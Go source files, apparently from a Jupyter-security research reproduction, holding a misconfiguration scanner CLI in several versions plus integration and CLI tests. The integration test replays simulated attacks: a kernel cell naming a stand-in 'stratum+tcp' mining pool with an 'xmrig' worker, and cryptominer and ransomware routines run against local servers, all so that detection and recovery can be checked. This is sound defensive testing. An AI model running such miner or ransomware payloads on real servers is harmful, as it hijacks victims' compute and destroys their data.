	"repro/internal/histstore"
	"repro/internal/misconfig"
	"repro/internal/nbformat"
	"repro/internal/nbscan"
	"repro/internal/rules"
	"repro/internal/scan"
	"repro/internal/server"
	"repro/internal/trace"
)

func main() {
	preset := flag.String("preset", "", "scan a config preset: hardened | sloppy")
	probe := flag.String("probe", "", "probe a live server at host:port")
	notebook := flag.String("notebook", "", "statically scan a .ipynb file for attack-shaped cells")
	cryptoFlag := flag.Bool("crypto", false, "include the quantum-threat crypto inventory")
	fleetN := flag.Int("fleet", 0, "spawn N simulated servers with sampled misconfig presets and run a census sweep")
	suitesFlag := flag.String("suites", "misconfig", "comma-separated scanner suites for the fleet sweep (misconfig,nbscan,crypto,intel)")
	workers := flag.Int("workers", 4, "fleet sweep worker pool size")
	rate := flag.Float64("rate", 0, "fleet sweep probe rate limit in targets/sec (0 = unlimited)")
	seed := flag.Int64("seed", 1, "fleet preset generator seed (same seed -> identical census)")
	resume := flag.String("resume", "", "fleet checkpoint file; an interrupted sweep continues where it left off")
	topK := flag.Int("topk", 5, "rows in the fleet census's worst-targets list and top-incidents-by-risk table")
	jsonl := flag.String("jsonl", "", "stream per-target fleet results as JSONL to this file ('-' = stdout)")
	events := flag.String("events", "", "record every fleet finding as a trace-event stream, replayable with jsentinel --replay: an event-store directory, or legacy JSONL when the path ends in .jsonl")
	codecFlag := flag.String("codec", "", "segment format for new --events store segments: binary (default) or json")
	history := flag.String("history", "", "record alert/incident history here for jsentinel query (defaults to <events>/history when --events records to a store directory; \"none\" disables)")
	flag.Parse()

	codec, err := evstore.ParseCodec(*codecFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
		os.Exit(2)
	}
	switch {
	case *fleetN > 0:
		suiteNames := strings.Split(*suitesFlag, ",")
		if _, err := scan.Resolve(suiteNames); err != nil {
			// Fail fast, before any server is spawned: a typo in
			// --suites is a usage error, not a sweep failure.
			fmt.Fprintf(os.Stderr, "jscan: %v\nusage: --suites takes a comma-separated subset of: %s\n",
				err, strings.Join(scan.Names(), ","))
			os.Exit(2)
		}
		os.Exit(runFleet(*fleetN, *seed, fleet.Options{
			Workers:        *workers,
			Rate:           *rate,
			TopK:           *topK,
			Suites:         suiteNames,
			CheckpointPath: *resume,
		}, *jsonl, *events, codec, *history))
	case *notebook != "":
		data, err := os.ReadFile(*notebook)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
			os.Exit(1)
		}
		nb, err := nbformat.Parse(data)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: invalid notebook: %v\n", err)
			os.Exit(1)
		}
		findings := nbscan.ScanNotebook(nb)
		fmt.Print(nbscan.Render(findings))
		if len(findings) > 0 {
			os.Exit(1)
		}
	case *preset != "":
		cfg, ok := server.PresetConfig(*preset, "scan-placeholder-token")
		if !ok {
			fmt.Fprintf(os.Stderr, "jscan: unknown preset %q\n", *preset)
			os.Exit(2)
		}
		findings := misconfig.Scan(cfg)
		fmt.Print(misconfig.Render(findings))
		if *cryptoFlag {
			fmt.Println()
			fmt.Print(cryptoaudit.Audit(cfg).Render())
		}
		if misconfig.Score(findings) < 70 {
			os.Exit(1)
		}
	case *probe != "":
		res := misconfig.Probe(*probe, 5*time.Second)
		if !res.Reachable {
			fmt.Printf("jscan: %s unreachable\n", *probe)
			os.Exit(1)
		}
		fmt.Printf("probe of %s: open_access=%v terminals=%v wildcard_cors=%v\n",
			*probe, res.OpenAccess, res.TerminalsEnabled, res.WildcardCORS)
		fmt.Print(misconfig.Render(res.Findings))
		if len(res.Findings) > 0 {
			os.Exit(1)
		}
	default:
		fmt.Fprintln(os.Stderr, "jscan: need --preset NAME, --probe ADDR, --notebook FILE, or --fleet N")
		os.Exit(2)
	}
}

// runFleet spawns the simulated fleet, sweeps it with the selected
// suites, and prints the census to stdout (performance stats go to
// stderr so the census stays byte-identical run to run). Every
// finding also flows through a bounded stage into the core detection
// engine; the resulting alert tally and the OSCRP incident/risk
// summary are part of the census. Returns the process exit code.
func runFleet(n int, seed int64, opts fleet.Options, jsonlPath, eventsPath string, codec evstore.Codec, historyPath string) int {
	var stream io.Writer
	var jsonlFile *os.File
	switch jsonlPath {
	case "":
	case "-":
		stream = os.Stdout
	default:
		f, err := os.Create(jsonlPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
			return 1
		}
		jsonlFile = f
		stream = f
	}
	opts.Stream = stream

	// Findings feed the detection pipeline: a bounded async stage
	// drains into the full core engine (signatures + incident
	// correlation + OSCRP risk scoring), exactly like live monitoring.
	// The builtin scan rules are stateless and findings attribute to
	// stable target IDs, so the alert tally and the incident summary
	// below are deterministic regardless of worker count or delivery
	// order — a multi-worker stage may reorder findings, but every
	// incident aggregate (count, top severity, risk) is
	// order-independent.
	// The finding stream lands in the segmented event store by
	// default; a .jsonl path keeps the legacy flat file. Either way
	// the recording's sticky error is checked before exit — a
	// truncated stream must not look like a clean sweep. Opened before
	// the history store so the events policy (the one users see) wins
	// when both refuse a non-empty target.
	var eventsSink *evstore.SinkHandle
	if eventsPath != "" {
		// A census is one sweep: refuse a store that already holds a
		// recorded stream, or the stream would disagree with the
		// report just printed. A resumed sweep is the exception — it
		// re-emits resumed findings, so the interrupted run's partial
		// recording is replaced by the complete stream (exactly what
		// os.Create truncation did for the legacy .jsonl path).
		mode := evstore.SinkFresh
		if opts.CheckpointPath != "" {
			mode = evstore.SinkReplace
		}
		h, err := evstore.OpenSink(eventsPath, mode, codec)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: --events: %v\n", err)
			return 1
		}
		eventsSink = h
	}
	// History rides next to the finding store by default, so a census
	// is queryable afterwards (`jsentinel query <events-store>`)
	// without re-detecting. Same freshness policy as the event
	// recording: one sweep, one history — replaced when resuming.
	if historyPath == "" && eventsPath != "" && !strings.HasSuffix(eventsPath, ".jsonl") {
		historyPath = filepath.Join(eventsPath, "history")
	}
	var hrec *histstore.Recorder
	if historyPath != "" && historyPath != "none" {
		mode := histstore.OpenFresh
		if opts.CheckpointPath != "" {
			mode = histstore.OpenReplace
		}
		hs, err := histstore.OpenWith(historyPath, mode, histstore.Options{})
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: --history: %v\n", err)
			return 1
		}
		hrec = histstore.NewRecorder(hs)
	}
	engineOpts := core.DefaultOptions()
	if hrec != nil {
		engineOpts.OnAlert = hrec.OnAlert
		engineOpts.OnIncidentUpdate = hrec.OnIncidentUpdate
	}
	engine, err := core.NewEngine(engineOpts)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
		return 1
	}
	stage := trace.NewStage(engine, opts.Workers, 4096, trace.Block)
	opts.Events = trace.SinkFunc(func(e trace.Event) {
		stage.Emit(e)
		if eventsSink != nil {
			eventsSink.Emit(e)
		}
	})

	presets := fleet.Generate(seed, n)
	fl, err := fleet.Spawn(presets)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
		return 1
	}
	defer fl.Close()

	// Ctrl-C cancels the sweep; completed targets are already in the
	// checkpoint, so rerunning with --resume picks up the remainder.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	report, err := fleet.Scan(ctx, fl.Targets(), opts)
	stage.Close() // drain queued findings before the alert tally
	if hrec != nil {
		// Stage drained: every finding's alerts and incident updates
		// have reached the history store. Stats go to stderr so the
		// census stdout stays byte-identical run to run.
		if cerr := hrec.Store().Close(); cerr != nil && err == nil {
			err = fmt.Errorf("history: %w", cerr)
		} else {
			fmt.Fprintf(os.Stderr, "jscan: history recorded to %s (%s)\n",
				historyPath, hrec.Store().Stats().Render())
		}
	}
	if eventsSink != nil {
		if cerr := eventsSink.Close(); cerr != nil && err == nil {
			err = fmt.Errorf("event stream: %w", cerr)
		}
	}
	if jsonlFile != nil {
		// Close errors mean the JSONL stream is incomplete; a silent
		// exit 0 would hand downstream consumers a truncated dataset.
		if cerr := jsonlFile.Close(); cerr != nil && err == nil {
			err = cerr
		}
	}
	switch {
	case errors.Is(err, context.Canceled):
		fmt.Fprintf(os.Stderr, "jscan: sweep interrupted: %v\n", err)
	case err != nil:
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
	}
	if report != nil {
		fmt.Print(report.Render())
		fmt.Print(renderAlerts(engine.Alerts()))
		fmt.Print(renderIncidents(engine, opts.TopK))
		fmt.Fprintln(os.Stderr, report.Stats.Render())
	}
	if err != nil {
		return 1
	}
	return 0
}

// renderIncidents renders the OSCRP incident/risk summary the core
// engine correlated from the census finding stream: per-target
// incidents ranked by risk score. No IDs or timestamps appear, so the
// census stays byte-identical across runs and worker counts.
func renderIncidents(eng *core.Engine, topK int) string {
	var b strings.Builder
	st := eng.Stats()
	fmt.Fprintf(&b, "OSCRP incident summary: %d incidents correlated from %d findings\n",
		st.Incidents, st.Events)
	b.WriteString(core.RenderTopIncidents(eng.Incidents(), topK))
	return b.String()
}

// renderAlerts tallies pipeline alerts per rule, sorted by rule ID so
// the census stays deterministic.
func renderAlerts(alerts []rules.Alert) string {
	var b strings.Builder
	fmt.Fprintf(&b, "alerts raised through the rules pipeline: %d\n", len(alerts))
	byRule := map[string]int{}
	for _, a := range alerts {
		byRule[a.RuleID]++
	}
	ids := make([]string, 0, len(byRule))
	for id := range byRule {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		fmt.Fprintf(&b, "  %-26s %5d\n", id, byRule[id])
	}
	return b.String()
}
