// Command jscan is the misconfiguration scanner: it audits a named
// configuration preset, probes a live server the way an internet
// scanner would, or runs a fleet census — spawning N simulated
// servers with misconfiguration presets sampled from the paper's
// taxonomy and sweeping them through a bounded, rate-limited worker
// pool into a deterministic aggregate report.
//
//	jscan --preset sloppy
//	jscan --preset hardened
//	jscan --probe 127.0.0.1:8888
//	jscan --fleet 64 --workers 8 --seed 1
//	jscan --fleet 64 --rate 100 --resume sweep.ckpt --jsonl results.jsonl
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"time"

	"repro/internal/cryptoaudit"
	"repro/internal/fleet"
	"repro/internal/misconfig"
	"repro/internal/nbformat"
	"repro/internal/nbscan"
	"repro/internal/server"
)

func main() {
	preset := flag.String("preset", "", "scan a config preset: hardened | sloppy")
	probe := flag.String("probe", "", "probe a live server at host:port")
	notebook := flag.String("notebook", "", "statically scan a .ipynb file for attack-shaped cells")
	cryptoFlag := flag.Bool("crypto", false, "include the quantum-threat crypto inventory")
	fleetN := flag.Int("fleet", 0, "spawn N simulated servers with sampled misconfig presets and run a census sweep")
	workers := flag.Int("workers", 4, "fleet sweep worker pool size")
	rate := flag.Float64("rate", 0, "fleet sweep probe rate limit in targets/sec (0 = unlimited)")
	seed := flag.Int64("seed", 1, "fleet preset generator seed (same seed -> identical census)")
	resume := flag.String("resume", "", "fleet checkpoint file; an interrupted sweep continues where it left off")
	topK := flag.Int("topk", 5, "worst targets listed in the fleet census")
	jsonl := flag.String("jsonl", "", "stream per-target fleet results as JSONL to this file ('-' = stdout)")
	flag.Parse()

	switch {
	case *fleetN > 0:
		os.Exit(runFleet(*fleetN, *seed, fleet.Options{
			Workers:        *workers,
			Rate:           *rate,
			TopK:           *topK,
			CheckpointPath: *resume,
		}, *jsonl))
	case *notebook != "":
		data, err := os.ReadFile(*notebook)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
			os.Exit(1)
		}
		nb, err := nbformat.Parse(data)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: invalid notebook: %v\n", err)
			os.Exit(1)
		}
		findings := nbscan.ScanNotebook(nb)
		fmt.Print(nbscan.Render(findings))
		if len(findings) > 0 {
			os.Exit(1)
		}
	case *preset != "":
		cfg, ok := server.PresetConfig(*preset, "scan-placeholder-token")
		if !ok {
			fmt.Fprintf(os.Stderr, "jscan: unknown preset %q\n", *preset)
			os.Exit(2)
		}
		findings := misconfig.Scan(cfg)
		fmt.Print(misconfig.Render(findings))
		if *cryptoFlag {
			fmt.Println()
			fmt.Print(cryptoaudit.Audit(cfg).Render())
		}
		if misconfig.Score(findings) < 70 {
			os.Exit(1)
		}
	case *probe != "":
		res := misconfig.Probe(*probe, 5*time.Second)
		if !res.Reachable {
			fmt.Printf("jscan: %s unreachable\n", *probe)
			os.Exit(1)
		}
		fmt.Printf("probe of %s: open_access=%v terminals=%v wildcard_cors=%v\n",
			*probe, res.OpenAccess, res.TerminalsEnabled, res.WildcardCORS)
		fmt.Print(misconfig.Render(res.Findings))
		if len(res.Findings) > 0 {
			os.Exit(1)
		}
	default:
		fmt.Fprintln(os.Stderr, "jscan: need --preset NAME, --probe ADDR, --notebook FILE, or --fleet N")
		os.Exit(2)
	}
}

// runFleet spawns the simulated fleet, sweeps it, and prints the
// census to stdout (performance stats go to stderr so the census
// stays byte-identical run to run). Returns the process exit code.
func runFleet(n int, seed int64, opts fleet.Options, jsonlPath string) int {
	var stream io.Writer
	var jsonlFile *os.File
	switch jsonlPath {
	case "":
	case "-":
		stream = os.Stdout
	default:
		f, err := os.Create(jsonlPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
			return 1
		}
		jsonlFile = f
		stream = f
	}
	opts.Stream = stream

	presets := fleet.Generate(seed, n)
	fl, err := fleet.Spawn(presets)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
		return 1
	}
	defer fl.Close()

	// Ctrl-C cancels the sweep; completed targets are already in the
	// checkpoint, so rerunning with --resume picks up the remainder.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	report, err := fleet.Scan(ctx, fl.Targets(), opts)
	if jsonlFile != nil {
		// Close errors mean the JSONL stream is incomplete; a silent
		// exit 0 would hand downstream consumers a truncated dataset.
		if cerr := jsonlFile.Close(); cerr != nil && err == nil {
			err = cerr
		}
	}
	switch {
	case errors.Is(err, context.Canceled):
		fmt.Fprintf(os.Stderr, "jscan: sweep interrupted: %v\n", err)
	case err != nil:
		fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
	}
	if report != nil {
		fmt.Print(report.Render())
		fmt.Fprintln(os.Stderr, report.Stats.Render())
	}
	if err != nil {
		return 1
	}
	return 0
}
