// Command jscan is the misconfiguration scanner: it audits a named
// configuration preset or probes a live server the way an internet
// scanner would.
//
//	jscan --preset sloppy
//	jscan --preset hardened
//	jscan --probe 127.0.0.1:8888
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/cryptoaudit"
	"repro/internal/misconfig"
	"repro/internal/nbformat"
	"repro/internal/nbscan"
	"repro/internal/server"
)

func main() {
	preset := flag.String("preset", "", "scan a config preset: hardened | sloppy")
	probe := flag.String("probe", "", "probe a live server at host:port")
	notebook := flag.String("notebook", "", "statically scan a .ipynb file for attack-shaped cells")
	cryptoFlag := flag.Bool("crypto", false, "include the quantum-threat crypto inventory")
	flag.Parse()

	switch {
	case *notebook != "":
		data, err := os.ReadFile(*notebook)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: %v\n", err)
			os.Exit(1)
		}
		nb, err := nbformat.Parse(data)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jscan: invalid notebook: %v\n", err)
			os.Exit(1)
		}
		findings := nbscan.ScanNotebook(nb)
		fmt.Print(nbscan.Render(findings))
		if len(findings) > 0 {
			os.Exit(1)
		}
	case *preset != "":
		var cfg server.Config
		switch *preset {
		case "hardened":
			cfg = server.HardenedConfig("scan-placeholder-token")
			cfg.ContentQuota = 10 << 30
		case "sloppy":
			cfg = server.SloppyConfig()
		default:
			fmt.Fprintf(os.Stderr, "jscan: unknown preset %q\n", *preset)
			os.Exit(2)
		}
		findings := misconfig.Scan(cfg)
		fmt.Print(misconfig.Render(findings))
		if *cryptoFlag {
			fmt.Println()
			fmt.Print(cryptoaudit.Audit(cfg).Render())
		}
		if misconfig.Score(findings) < 70 {
			os.Exit(1)
		}
	case *probe != "":
		res := misconfig.Probe(*probe, 5*time.Second)
		if !res.Reachable {
			fmt.Printf("jscan: %s unreachable\n", *probe)
			os.Exit(1)
		}
		fmt.Printf("probe of %s: open_access=%v terminals=%v wildcard_cors=%v\n",
			*probe, res.OpenAccess, res.TerminalsEnabled, res.WildcardCORS)
		fmt.Print(misconfig.Render(res.Findings))
		if len(res.Findings) > 0 {
			os.Exit(1)
		}
	default:
		fmt.Fprintln(os.Stderr, "jscan: need --preset NAME, --probe ADDR, or --notebook FILE")
		os.Exit(2)
	}
}
