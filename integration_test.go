// Integration test: the paper's whole deployment story in one
// scenario. An edge honeypot absorbs a campaign and publishes intel; a
// production server runs with wire monitoring, host detection, and
// kernel auditing; the same attacker pivots to production, is detected
// by both planes, forensically reconstructed from the audit log, and
// the operators recover and publish an anonymized dataset.
package repro_test

import (
	"bytes"
	"context"
	"net"
	"strings"
	"testing"
	"time"

	"repro/internal/anonymize"
	"repro/internal/attacks"
	"repro/internal/audit"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/cryptoaudit"
	"repro/internal/fleet"
	"repro/internal/honeypot"
	"repro/internal/misconfig"
	"repro/internal/nbformat"
	"repro/internal/netmon"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/threatintel"
	"repro/internal/trace"
)

func TestEndToEndDeploymentStory(t *testing.T) {
	// ---- Phase 0: pre-deployment audit of the production config ----
	prodCfg := server.HardenedConfig("prod-token-0123456789")
	prodCfg.ContentQuota = 1 << 30
	if findings := misconfig.Scan(prodCfg); len(findings) != 0 {
		t.Fatalf("production config not clean: %+v", findings)
	}

	// ---- Phase 1: edge honeypot absorbs the campaign ----
	hp, err := honeypot.New(honeypot.Config{ID: "edge-1"})
	if err != nil {
		t.Fatal(err)
	}
	defer hp.Close()
	attacker := client.New(hp.Addr, "")
	if _, err := attacks.Cryptominer(attacker, attacks.MinerOptions{
		Rounds: 2, BurnMillis: 500, Blatant: true, Username: "attacker",
	}); err != nil {
		t.Fatal(err)
	}
	intel := hp.PublishIntel(time.Now())
	if len(intel.Rules) == 0 || len(intel.Indicators) == 0 {
		t.Fatalf("edge produced no intel: %d rules %d indicators",
			len(intel.Rules), len(intel.Indicators))
	}

	// ---- Phase 2: production boots with the full defensive stack ----
	auditLog := audit.NewLog(nil)
	tracer := audit.NewTracer(auditLog)
	prod := server.NewServer(prodCfg,
		server.WithKernelHooks(tracer.WrapHost, func(id, user, code string) {
			tracer.RecordExec(id, user, code)
		}))
	eng := core.MustEngine()
	prod.Bus().Subscribe(eng)
	mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
	wireEng := core.MustEngine()
	mon.Bus().Subscribe(wireEng)

	store := threatintel.NewStore()
	store.Merge(intel)
	for _, r := range store.Rules() {
		if err := eng.AddRule(r); err != nil {
			t.Fatal(err)
		}
		if err := wireEng.AddRule(r); err != nil {
			t.Fatal(err)
		}
	}

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr, err := prod.Serve(mon.WrapListener(ln))
	if err != nil {
		t.Fatal(err)
	}
	defer prod.Close()

	// Research content + checkpoints.
	nb := nbformat.New()
	nb.AppendMarkdown("md", "# Production run\n"+strings.Repeat("notes\n", 40))
	nb.AppendCode("c1", `print("ok")`)
	nbJSON, _ := nb.Marshal()
	for _, p := range []string{"notebooks/prod_a.ipynb", "notebooks/prod_b.ipynb"} {
		if err := prod.FS.Write(p, "pi", nbJSON); err != nil {
			t.Fatal(err)
		}
		if _, err := prod.FS.CreateCheckpoint(p); err != nil {
			t.Fatal(err)
		}
	}

	// ---- Phase 3: benign use, then the attacker pivots in ----
	c := client.New(addr, prodCfg.Auth.Token)
	k, err := c.StartKernel("minilang")
	if err != nil {
		t.Fatal(err)
	}
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		t.Fatal(err)
	}
	if res, err := kc.Execute(`print("science", 6*7)`); err != nil || res.Status != "ok" {
		t.Fatalf("benign exec: %+v %v", res, err)
	}
	kc.Close()

	// The attacker (with a stolen token) replays the campaign payload,
	// then runs the ransomware sweep.
	mc := client.New(addr, prodCfg.Auth.Token)
	mk, _ := mc.StartKernel("minilang")
	mkc, err := mc.ConnectKernel(mk.ID, "attacker")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = mkc.Execute(`pool = "stratum+tcp://pool.minexmr.example:4444"` + "\n" + `worker = "xmrig-6.21"` + "\n" + `print(worker, pool)`)
	mkc.Close()
	if _, err := attacks.Ransomware(mc, attacks.RansomwareOptions{Username: "attacker"}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(200 * time.Millisecond) // drain wire analyzers

	// ---- Phase 4: both detection planes fired ----
	hostClasses := eng.IncidentsByClass()
	if len(hostClasses[rules.ClassCryptomining]) == 0 {
		t.Fatal("host plane missed the miner replay")
	}
	if len(hostClasses[rules.ClassRansomware]) == 0 {
		t.Fatal("host plane missed the ransomware")
	}
	var viaIntel bool
	for _, inc := range hostClasses[rules.ClassCryptomining] {
		for _, a := range inc.Alerts {
			if strings.HasPrefix(a.RuleID, "edge-1-sig-") {
				viaIntel = true
			}
		}
	}
	if !viaIntel {
		t.Fatal("edge-extracted signature did not fire in production")
	}
	wireClasses := wireEng.IncidentsByClass()
	if len(wireClasses[rules.ClassCryptomining]) == 0 {
		t.Fatal("wire plane missed the miner replay (observability gap)")
	}

	// ---- Phase 5: forensics on the tamper-evident audit log ----
	if err := auditLog.VerifyLog(); err != nil {
		t.Fatal(err)
	}
	chain, err := cryptoaudit.NewCheckpointChain(3)
	if err != nil {
		t.Fatal(err)
	}
	ck, err := chain.Checkpoint(auditLog.Head())
	if err != nil {
		t.Fatal(err)
	}
	if err := cryptoaudit.VerifyChain(chain.Root(), []cryptoaudit.Checkpoint{ck}); err != nil {
		t.Fatal(err)
	}
	prov := audit.BuildProvenance(auditLog.Records())
	touchers := prov.WhoTouched("notebooks/prod_a.ipynb")
	if len(touchers) == 0 {
		t.Fatal("provenance lost the encryption sweep")
	}
	if touchers[0].User != "attacker" {
		t.Fatalf("wrong attribution: %+v", touchers[0])
	}

	// ---- Phase 6: recovery ----
	cks, err := prod.FS.Checkpoints("notebooks/prod_a.ipynb.locked")
	if err != nil || len(cks) == 0 {
		t.Fatalf("checkpoints lost: %v %v", cks, err)
	}
	if err := prod.FS.RestoreCheckpoint("notebooks/prod_a.ipynb.locked", cks[0].ID, "ops"); err != nil {
		t.Fatal(err)
	}
	restored, _ := prod.FS.Read("notebooks/prod_a.ipynb.locked", "ops")
	if _, err := nbformat.Parse(restored); err != nil {
		t.Fatalf("restored notebook invalid: %v", err)
	}

	// ---- Phase 7: publish the anonymized incident dataset ----
	ring := trace.NewRing(100000)
	// Re-emit the engine's incident triggers through the anonymizer as
	// the shareable record of this incident.
	anon := anonymize.New([]byte("site-key"))
	var shared []trace.Event
	for _, inc := range eng.Incidents() {
		for _, a := range inc.Alerts {
			e := anon.Event(a.Trigger)
			shared = append(shared, e)
			ring.Emit(e)
		}
	}
	if len(shared) == 0 {
		t.Fatal("nothing to share")
	}
	var buf bytes.Buffer
	w := trace.NewJSONLWriter(&buf)
	for _, e := range shared {
		w.Emit(e)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), "attacker") || strings.Contains(buf.String(), `"alice"`) {
		t.Fatal("identities leaked into the shared dataset")
	}

	// And the monitor's Zeek logs exist for the same window.
	var zeek bytes.Buffer
	if err := mon.WriteAllLogs(&zeek); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(zeek.String(), "execute_request") {
		t.Fatal("zeek jupyter.log missing kernel traffic")
	}
}

// TestFleetSweepRaisesAlertsThroughPipeline closes the loop between
// the census and the detection substrate: a fleet sweep over hostile
// presets projects every finding as a trace event through a bounded
// stage into the rules engine, which must raise alerts the same way
// live monitoring would.
func TestFleetSweepRaisesAlertsThroughPipeline(t *testing.T) {
	fl, err := fleet.Spawn(fleet.Generate(1, 6)) // includes the everything-wrong anchor
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	engine, err := rules.NewEngine(rules.BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	stage := trace.NewStage(engine, 4, 1024, trace.Block)
	rep, err := fleet.Scan(context.Background(), fl.Targets(), fleet.Options{
		Workers: 4,
		Suites:  []string{"misconfig", "nbscan", "crypto", "intel"},
		Events:  stage,
	})
	if err != nil {
		t.Fatal(err)
	}
	stage.Close() // drain queued findings into the engine

	alerts := engine.Alerts()
	if len(alerts) == 0 {
		t.Fatal("hostile sweep raised no alerts through the rules pipeline")
	}
	byRule := map[string]int{}
	for _, a := range alerts {
		byRule[a.RuleID]++
	}
	// The open-auth anchor guarantees critical misconfig findings and
	// a seeded trojan notebook, so all three scan rules must fire.
	for _, id := range []string{"SC-001-critical-exposure", "SC-002-trojan-notebook", "SC-003-known-indicator"} {
		if byRule[id] == 0 {
			t.Errorf("rule %s never fired; alerts by rule: %+v", id, byRule)
		}
	}
	if uint64(rep.BySuite["misconfig"]+rep.BySuite["nbscan"]+rep.BySuite["crypto"]+rep.BySuite["intel"]) !=
		engine.Evaluated() {
		t.Errorf("engine evaluated %d events for findings %v", engine.Evaluated(), rep.BySuite)
	}
}
