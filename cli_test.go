// CLI smoke tests: build every command and exercise its primary flow
// against real files, so flag plumbing and output formats stay honest.
package repro_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"repro/internal/audit"
	"repro/internal/evstore"
	"repro/internal/kernel"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/workload"
)

// buildTools compiles all commands once into a temp dir.
func buildTools(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.Command("go", "build", "-o", dir+string(os.PathSeparator), "./cmd/...")
	cmd.Dir = "."
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("go build ./cmd/...: %v\n%s", err, out)
	}
	return dir
}

func runTool(t *testing.T, bin string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// syncBuf is a goroutine-safe buffer for capturing daemon output
// while the process is still running.
type syncBuf struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuf) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// startDaemon launches a long-running command, waits until its stdout
// announces the bound address ("... on http://ADDR ..."), and returns
// the address plus a stop func that SIGTERMs the process, waits for a
// clean exit, and returns the full combined output.
func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop func() string) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	out := &syncBuf{}
	cmd.Stdout = out
	cmd.Stderr = out
	if err := cmd.Start(); err != nil {
		t.Fatalf("start %s: %v", filepath.Base(bin), err)
	}
	addrRE := regexp.MustCompile(`on http://([0-9.]+:[0-9]+)`)
	deadline := time.Now().Add(10 * time.Second)
	for {
		if m := addrRE.FindStringSubmatch(out.String()); m != nil {
			addr = m[1]
			break
		}
		if time.Now().After(deadline) {
			_ = cmd.Process.Kill()
			t.Fatalf("%s never announced an address:\n%s", filepath.Base(bin), out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
	stop = func() string {
		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
			t.Fatalf("SIGTERM: %v", err)
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		select {
		case err := <-done:
			if err != nil {
				t.Fatalf("%s exited uncleanly after SIGTERM: %v\n%s", filepath.Base(bin), err, out.String())
			}
		case <-time.After(15 * time.Second):
			_ = cmd.Process.Kill()
			t.Fatalf("%s did not exit within 15s of SIGTERM:\n%s", filepath.Base(bin), out.String())
		}
		return out.String()
	}
	return addr, stop
}

func TestCLITools(t *testing.T) {
	if testing.Short() {
		t.Skip("builds binaries")
	}
	bin := buildTools(t)
	work := t.TempDir()

	t.Run("jtaxonomy", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jtaxonomy"), "-fig1", "-fig3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"Taxonomy of Jupyter Notebook attacks", "OSCRP mapping", "ransomware"} {
			if !strings.Contains(out, want) {
				t.Errorf("output missing %q", want)
			}
		}
	})

	t.Run("jscan-presets", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jscan"), "--preset", "hardened", "--crypto")
		if err != nil {
			t.Fatalf("hardened preset should exit 0: %v\n%s", err, out)
		}
		if !strings.Contains(out, "hardening score 100/100") {
			t.Errorf("hardened output: %s", out)
		}
		out, err = runTool(t, filepath.Join(bin, "jscan"), "--preset", "sloppy")
		if err == nil {
			t.Fatal("sloppy preset should exit non-zero")
		}
		if !strings.Contains(out, "JPY-001") {
			t.Errorf("sloppy output missing findings: %s", out)
		}
	})

	t.Run("jscan-fleet", func(t *testing.T) {
		// Same seed must yield a byte-identical census regardless of
		// worker count, and a checkpointed sweep must resume.
		out1, err := runTool(t, filepath.Join(bin, "jscan"), "--fleet", "64", "--workers", "8", "--seed", "3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out1)
		}
		out2, err := runTool(t, filepath.Join(bin, "jscan"), "--fleet", "64", "--workers", "2", "--seed", "3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out2)
		}
		census := func(out string) string {
			// The sweep perf line (stderr) is wall-clock dependent;
			// the census itself must match exactly.
			var keep []string
			for _, line := range strings.Split(out, "\n") {
